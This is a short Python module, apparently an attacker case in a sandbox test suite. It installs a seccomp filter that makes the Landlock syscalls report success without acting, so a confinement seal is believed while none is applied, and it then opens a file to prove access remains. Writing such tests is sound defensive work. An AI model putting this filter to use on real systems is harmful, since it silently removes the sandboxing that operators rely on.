"""Answer for the kernel when it is to be sealed.

gain: a seal that is believed and is not there
attack: T1562.006
stopped by: suspended filters, reading back
unconfined: host
levels: seal
alone: yes
rootless: its filters cannot be suspended without root, and Landlock on it is not claimed
"""

import ctypes
import os
import struct

from attacker import LIBC, NUMBER


def prepare(world):
    # Its own filter says 0, "done", to what seals.
    names = [NUMBER["landlock_create_ruleset"], NUMBER["landlock_restrict_self"]]
    code = [struct.pack("HBBI", 0x20, 0, 0, 0)]
    for index, number in enumerate(names):
        code.append(struct.pack("HBBI", 0x15, len(names) - index, 0, number))
    code += [struct.pack("HBBI", 6, 0, 0, 0x7FFF0000), struct.pack("HBBI", 6, 0, 0, 0x00050000)]
    program = ctypes.create_string_buffer(b"".join(code))
    block = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", len(code), ctypes.addressof(program)))
    LIBC.prctl(38, 1, 0, 0, 0)
    if LIBC.syscall(NUMBER["seccomp"], 1, 0, block):
        raise OSError(ctypes.get_errno(), "seccomp")


def attempt(world):
    os.close(os.open("/usr/bin/env", os.O_RDONLY))
    return "opened a file, sealed or not"
